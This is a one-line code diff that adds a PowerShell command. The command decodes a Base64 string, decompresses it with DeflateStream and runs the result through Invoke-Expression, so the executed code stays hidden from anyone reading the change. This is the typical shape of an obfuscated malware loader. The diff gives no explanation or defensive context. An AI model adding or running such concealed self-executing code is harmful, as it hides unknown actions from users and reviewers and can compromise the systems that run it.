@@ -1,0 +1,1 @@
+iex ((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('U1YoKMovyyzOzM9TMDUxMlEoM+LydI1Q0PBLLdf1T8pKTS5R8Est0QtPTXLOyUzNK9HUc8kvz8vJT0wJLinKzEvXUM8oKSmw0tc3tLTQMzXUMzQw0LPUz8wr0ysoNlTX5AIA'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::UTF8)).ReadToEnd())
